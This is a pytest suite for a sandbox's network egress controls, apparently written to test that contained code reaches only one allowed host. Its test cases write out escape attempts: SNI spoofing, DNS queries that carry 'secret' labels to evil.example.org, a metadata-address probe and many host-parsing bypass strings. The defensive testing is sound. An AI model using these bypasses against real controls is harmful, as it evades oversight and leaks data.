"""One name is allowed; every other way out is tried from inside, and servers outside say what reached them."""

import json
import re
from collections.abc import Callable
from types import SimpleNamespace

import pytest
from tests.contain.attacker import TRANSLATED, denied, tried
from tests.contain.upstream_double import ADDRESS, GIT, NUMBER, Upstream

Attack = Callable[..., SimpleNamespace]


def test_the_allowed_name_is_reached_by_every_way(attack: Attack, upstream: Upstream) -> None:
    """The control: without it a network that carries nothing would pass every test below."""
    done = attack(
        "say(talk('ok.example.org', 443, hello('ok.example.org')))\n"
        "say(talk('ok.example.org', 443, *[bytes([b]) for b in hello('ok.example.org')]))\n"
        "say(talk('a.wild.example.org', 443, hello('a.wild.example.org')))\n"
        "say(talk('ok.example.org', 9418, b'git words'))\n"
        "say(talk('ok.example.org', 80, b'GET / HTTP/1.1\\r\\nHost: ok.example.org\\r\\n\\r\\n')[-6:])\n"
        "say(tunnel('ok.example.org:443', hello('ok.example.org')))\n"
        "say(tunnel('OK.example.org.:443', hello('ok.example.org')))\n"
        "say(talk('127.0.0.1', 3128, b'GET http://ok.example.org/x HTTP/1.1\\r\\n\\r\\n')[-6:])\n"
    )
    lines = done.stdout.split("\n")
    assert lines[:3] == ["heard"] * 3
    assert lines[3:5] == ["hello from the server", "heard"]
    assert lines[5:9] == ["served", "heard", "heard", "served"]
    assert denied(done) == set()
    assert upstream.connections() == 8


def test_a_server_that_speaks_first_is_heard_before_a_word_is_said(
    attack: Attack, upstream: Upstream
) -> None:
    done = attack(
        "connection = socket.create_connection(('ok.example.org', 9418), 6)\n"
        "say(connection.recv(100)); connection.sendall(b'late words'); say(reply(connection))"
    )
    assert done.stdout == "b'hello from the server\\n'\nheard\n"
    assert upstream.heard[GIT] == [b"late words"]


FIRST_WORDS = {
    "another name": "hello('evil.example.org')",
    "another name, split": "*[hello('evil.example.org')[i:i+7] for i in range(0, 600, 7)]",
    "no name": "hello(None)",
    "plain HTTP": r"b'GET / HTTP/1.1\r\nHost: evil.example.org\r\n\r\n'",
    "another protocol": r"b'SSH-2.0-evil.example.org\r\n'",
    "a name with a dot before it": "hello('evil.ok.example.org')",
}


@pytest.mark.parametrize("words", FIRST_WORDS.values(), ids=FIRST_WORDS)
def test_tls_to_another_name_is_refused(attack: Attack, upstream: Upstream, words: str) -> None:
    done = attack(
        f"say(talk('ok.example.org', 443, {words}))\nsay(tunnel('ok.example.org:443', {words}))"
    )
    assert "heard" not in done.stdout
    assert denied(done) <= {"network.sni", "network.tls"}
    assert denied(done)
    assert upstream.connections() == 0


def test_tls_to_another_name_is_refused_on_a_port_of_another_protocol_too(
    attack: Attack, upstream: Upstream
) -> None:
    """Also from a client that first lets the time pass in which it could have spoken."""
    done = attack(
        "say(talk('ok.example.org', 9418, hello('evil.example.org')))\n"
        "say(talk('ok.example.org', 9418, b'', hello('evil.example.org'), pause=1.0))\n"
        "say(talk('ok.example.org', 9418, b'\\x16', hello('evil.example.org')[1:], pause=1.0))\n"
        "say(tunnel('ok.example.org:9418', b'', hello('evil.example.org'), pause=1.0))\n"
    )
    assert "heard" not in done.stdout
    assert denied(done) == {"network.sni"}
    assert b"evil" not in upstream.everything()


def test_the_words_behind_a_connect_request_are_judged_too(
    attack: Attack, upstream: Upstream
) -> None:
    done = attack(
        "ask = b'CONNECT ok.example.org:443 HTTP/1.1\\r\\nHost: ok.example.org\\r\\n\\r\\n'\n"
        "say(talk('127.0.0.1', 3128, ask + hello('evil.example.org')))"
    )
    assert "heard" not in done.stdout
    assert denied(done) == {"network.sni"}
    assert upstream.connections() == 0


@pytest.mark.parametrize(
    "name", ["loop", "private", "metadata", "mapped", "translated", "six", "mixed"]
)
def test_an_allowed_name_that_leads_to_an_inner_address_is_refused(
    attack: Attack, upstream: Upstream, name: str
) -> None:
    host = f"{name}.example.net"
    done = attack(
        f"say(talk('{host}', 443, hello('{host}')))\n"
        f"say(tunnel('{host}:443', hello('{host}')))\n"
        f"say(talk('{host}', 80, b'GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'))\n"
    )
    assert denied(done) == {"network.private"}
    assert {f"connect {host}:443"} <= {text.rsplit(": ", 1)[0] for text in tried(done)}
    assert upstream.connections() == 0


def test_an_address_in_place_of_a_name_is_refused_at_once(
    attack: Attack, upstream: Upstream
) -> None:
    done = attack(
        "for address in ('203.0.113.7', '"
        + ADDRESS
        + "', '169.254.169.254', '2001:db8::7', '198.18.9.9'):\n"
        "    began = time.monotonic()\n"
        "    said = talk(address, 443, hello('ok.example.org'))\n"
        "    say(address, said, time.monotonic() - began < 0.9)\n"
    )
    lines = {line.split()[0]: line.split()[1:] for line in done.stdout.splitlines()}
    for address in ("203.0.113.7", ADDRESS, "169.254.169.254", "2001:db8::7"):
        assert lines[address] == ["<ConnectionRefusedError>", "True"]
    assert lines["198.18.9.9"] == ["<ConnectionResetError>", "True"]
    assert denied(done) == {"network.ip_literal"}
    assert {"tcp 203.0.113.7:443", "tcp 169.254.169.254:443", "tcp 2001:db8::7:443"} <= tried(done)
    assert upstream.connections() == 0


TARGETS = [
    ADDRESS, str(NUMBER), hex(NUMBER), ADDRESS.replace("127", "0x7f", 1), ADDRESS.replace("127", "0177", 1),
    f"127.{NUMBER & 0xFFFFFF}", f"127.66.{NUMBER & 0xFFFF}", "127.1",
    f"[::ffff:{ADDRESS}]", "[::1]", f"[{TRANSLATED}]", "[fe80::1%lo]", "evil.example.org",
    "evilwild.example.org", "wild.example.org", "ok.example.org.evil.example.org", "xok.example.org",
    "ok.example.org@evil.example.org", "evil.example.org#ok.example.org", "evil.example.org/ok.example.org",
    "ok.example.org%00.evil.example.org", "ok%2eexample%2eorg", "o\u212a.example.org", "ok\u3002example.org",
    "ok.example.org..", ".ok.example.org", "ok..example.org", "*.wild.example.org", "", "localhost",
]  # fmt: skip
ODD = ["ok.example.org", "ok.example.org:0", "ok.example.org:65536", "ok.example.org:+443",
       "ok.example.org:443:443", "ok.example.org:0x1bb", "ok.example.org:22"]  # fmt: skip


def test_no_other_target_passes_for_the_allowed_name(attack: Attack, upstream: Upstream) -> None:
    targets = [*(f"{host}:443" for host in TARGETS), *ODD]
    done = attack(
        f"for target in json.loads({json.dumps(targets)!r}):\n"
        "    say(ascii(target), tunnel(target, hello('ok.example.org')))"
    )
    said = done.stdout.splitlines()
    assert len(said) == len(targets)
    assert [line for line in said if "403" not in line] == []
    assert upstream.connections() == 0


def test_datagrams_are_refused_at_once_and_told(attack: Attack) -> None:
    done = attack(
        "for family, address in ((socket.AF_INET, '203.0.113.7'), (socket.AF_INET6, '2001:db8::7')):\n"
        "    channel = socket.socket(family, socket.SOCK_DGRAM); channel.settimeout(2)\n"
        "    channel.connect((address, 443)); channel.send(b'quic')\n"
        "    try: channel.recv(10)\n"
        "    except OSError as error: say(type(error).__name__)\n"
    )
    assert done.stdout == "ConnectionRefusedError\n" * 2
    assert tried(done) == {"udp 203.0.113.7:443", "udp 2001:db8::7:443"}
    assert denied(done) == {"network.protocol"}


QUERY = r"""
def query(name, kind=1, server='203.0.113.53'):
    channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); channel.settimeout(2)
    labels = b''.join(bytes([len(part)]) + part for part in name.encode().split(b'.')) + b'\0'
    channel.sendto(struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>2H', kind, 1), (server, 53))
    answer = channel.recv(4096)
    return answer[3] & 15, int.from_bytes(answer[6:8], 'big')
"""


def test_a_name_carries_nothing_out(attack: Attack) -> None:
    """No query leaves: what is asked of any resolver is answered by ours, and only for what is allowed."""
    done = attack(
        QUERY + "say({query(f'{i:050d}.secret.evil.example.org') for i in range(300)})\n"
        "say([query('ok.example.org', kind) for kind in (1, 28, 16, 65, 255, 12)])\n"
        "say(query('secret.evil.example.org', 16), query('7.0.113.203.in-addr.arpa', 12))\n"
    )
    assert done.stdout.splitlines() == [
        "{(3, 0)}",
        "[(0, 1), (0, 0), (0, 0), (0, 0), (0, 0), (0, 0)]",
        "(3, 0) (3, 0)",
    ]
    assert denied(done) == {"network.default"}
    assert len([event for event in done.events if event["type"] == "denied"]) <= 1001


def test_names_below_a_wildcard_are_bounded(attack: Attack) -> None:
    done = attack(
        QUERY
        + "codes = [query(f'n{i}.wild.example.org')[0] for i in range(4200)]\n"
        + "say(codes.count(0), codes.count(5), query('ok.example.org')[0])",
        limits={"wall_seconds": 60},
    )
    assert done.stdout.split()[:2] == ["4096", "104"]
    assert "network.max_names" in denied(done)


def test_a_malformed_query_is_answered_or_dropped_and_the_next_one_served(attack: Attack) -> None:
    done = attack(
        QUERY
        + "channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); channel.settimeout(0.2)\n"
        "for data in (b'', b'x', bytes(12), bytes(17), b'\\xff' * 40, bytes(12) + b'\\xc0\\x0c' + bytes(4)):\n"
        "    channel.sendto(data, ('127.0.0.1', 53))\n"
        "say(query('ok.example.org'))"
    )
    assert done.stdout == "(0, 1)\n"


def test_many_connections_are_held_to_a_number_and_the_rest_served_later(
    attack: Attack, upstream: Upstream
) -> None:
    done = attack(
        "held = []\n"
        "for _ in range(600):\n"
        "    try: held.append(socket.create_connection(('ok.example.org', 9418), 5))\n"
        "    except OSError as error: say(error)\n"
        "for each in held: each.close()\n"
        "time.sleep(1); say(talk('ok.example.org', 443, hello('ok.example.org')))",
        limits={"wall_seconds": 60},
    )
    assert done.stdout.splitlines()[-1] == "heard"
    assert "network.max_connections" in denied(done)
    assert len(upstream.heard[GIT]) <= 512


@pytest.mark.slow
@pytest.mark.usefixtures("upstream")
def test_requests_that_drip_are_cut_and_others_served_meanwhile(attack: Attack) -> None:
    done = attack(
        "slow = [socket.create_connection(('ok.example.org', port), 5) for port in (80, 443) for _ in range(20)]\n"
        "began, cut = time.monotonic(), 0\n"
        "for each in slow: each.setblocking(False); each.sendall(b'\\x16')\n"
        "while slow and time.monotonic() - began < 16:\n"
        "    for each in list(slow):\n"
        "        try: each.sendall(b'\\x03')\n"
        "        except OSError: slow.remove(each); cut += 1\n"
        "    if not cut: said = talk('ok.example.org', 443, hello('ok.example.org'))\n"
        "    time.sleep(0.5)\n"
        "say(cut, said, time.monotonic() - began > 8)",
        limits={"wall_seconds": 30},
    )
    assert done.stdout == "40 heard True\n"
    assert "network.timeout" in denied(done)


def test_bytes_beyond_the_budget_do_not_leave(attack: Attack, upstream: Upstream) -> None:
    done = attack(
        "say(talk('ok.example.org', 9418, b'x' * 1000, b'y' * 200_000, pause=0.3))",
        egress={"max_bytes": 5_000},
    )
    assert denied(done) == {"network.max_bytes"}
    assert len(upstream.heard[GIT][0]) <= 5_000
    assert re.search(b"^x{1000}", bytes(upstream.heard[GIT][0]))
